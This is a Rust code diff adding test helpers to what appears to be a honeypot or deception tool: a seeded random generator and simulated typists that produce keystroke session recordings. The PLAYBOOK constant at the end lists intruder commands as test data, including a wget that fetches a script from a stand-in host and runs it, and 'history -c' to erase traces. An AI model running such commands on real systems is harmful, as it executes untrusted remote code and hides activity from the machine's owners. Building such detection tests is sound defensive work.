@@ -261,3 +261,82 @@ pub mod oracle {
         Some(Line { ts, decky: nil(host), service: nil(app), event_type, fields, msg, ip })
     }
 }
+
+/// Seeded random numbers for generated test data: every run sees the same data.
+pub struct Rng(pub decnet_cli::bench::SplitMix64);
+impl Rng {
+    pub fn new(seed: u64) -> Self {
+        Rng(decnet_cli::bench::SplitMix64(seed))
+    }
+    /// Uniform in [0, 1).
+    pub fn unit(&mut self) -> f64 {
+        (self.0.next_u64() >> 11) as f64 / (1u64 << 53) as f64
+    }
+    /// Uniform in 0..n.
+    pub fn below(&mut self, n: usize) -> usize {
+        (self.0.next_u64() % n as u64) as usize
+    }
+    /// Standard normal (Box–Muller).
+    pub fn normal(&mut self) -> f64 {
+        let (u1, u2) = (self.unit().max(1e-12), self.unit());
+        (-2.0 * u1.ln()).sqrt() * (std::f64::consts::TAU * u2).cos()
+    }
+}
+
+/// Simulated typists for the keystroke tests: each has a base speed and its
+/// own per-digraph rhythm (some pairs fast, some slow), fixed by its seed; a
+/// session types a playbook with small lognormal jitter around that rhythm.
+pub mod typist {
+    use super::Rng;
+
+    pub struct Typist {
+        pub seed: u64,
+        /// Median flight of an average digraph, seconds.
+        pub base: f64,
+    }
+
+    impl Typist {
+        /// This typist's median flight for the digraph `a b`: the base speed
+        /// times a factor between 0.5 and 2 that depends only on (typist, digraph).
+        pub fn flight(&self, a: char, b: char) -> f64 {
+            let mut r = Rng::new(self.seed ^ ((a as u64) << 32) ^ (b as u64).wrapping_mul(0x1000_0001));
+            self.base * 2f64.powf(r.unit() * 2.0 - 1.0)
+        }
+
+        /// The sessrec JSONL lines of one session (header included) typing
+        /// `commands`, each followed by Enter and a line of output.
+        pub fn session(&self, sid: &str, commands: &[&str], rng: &mut Rng) -> String {
+            let line = |t: f64, ch: &str, d: &str| {
+                format!("{{\"sid\":\"{sid}\",\"t\":{t:.6},\"ch\":\"{ch}\",\"d\":{}}}\n", serde_json::to_string(d).unwrap())
+            };
+            let mut out = format!(
+                "{{\"sid\":\"{sid}\",\"hdr\":{{\"version\":2,\"width\":80,\"height\":24,\"timestamp\":1767225600,\"env\":{{\"SHELL\":\"/bin/bash\"}}}}}}\n"
+            );
+            let mut t = 0.0;
+            out += &line(t, "o", "root@host:~# ");
+            for cmd in commands {
+                t += 1.0 + rng.unit() * 2.0; // reading the prompt
+                let mut prev: Option<char> = None;
+                for c in cmd.chars().chain(std::iter::once('\r')) {
+                    if let Some(p) = prev {
+                        t += self.flight(p, c) * (0.02 * rng.normal()).exp();
+                    }
+                    out += &line(t, "i", &c.to_string());
+                    prev = Some(c);
+                }
+                t += 0.05;
+                out += &line(t, "o", "output\r\nroot@host:~# ");
+            }
+            out
+        }
+    }
+
+    /// What an intruder types after logging in.
+    pub const PLAYBOOK: &[&str] = &[
+        "uname -a",
+        "cat /proc/cpuinfo | grep name",
+        "wget http://203.0.113.9/x.sh -O /tmp/x.sh",
+        "chmod +x /tmp/x.sh && /tmp/x.sh",
+        "history -c",
+    ];
+}
